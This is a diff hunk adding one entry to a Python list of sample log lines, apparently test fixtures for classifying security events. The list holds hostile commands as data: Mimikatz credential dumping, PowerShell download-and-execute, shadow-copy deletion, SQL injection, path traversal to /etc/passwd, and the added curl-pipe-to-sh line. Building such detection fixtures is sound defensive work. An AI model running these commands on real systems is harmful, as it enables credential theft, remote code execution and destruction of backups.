@@ -29,6 +29,7 @@ def titles(text, sourcetype=""):
     ("<#\n  Helps\n#>\n$client = New-Object Net.WebClient\nInvoke-Mimikatz -DumpCreds", "powershell"),
     ("# installs\ntry {\n  $x = Get-Content a\n} catch { }\nIEX (New-Object Net.WebClient).DownloadString('http://db7/a')", ""),
     (r"C:\Users\ada>vssadmin delete shadows /all /quiet", ""),
+    ("ann@db7:/root$ XY=1 ADDRESS=$(curl -s http://db7/a | sh)", ""),
     ("/index.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", "access_combined"),
     ("id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", "access_combined"),
     ("?page=..%2f..%2f..%2fetc%2fpasswd&x=1&y=2&z=3", ""),
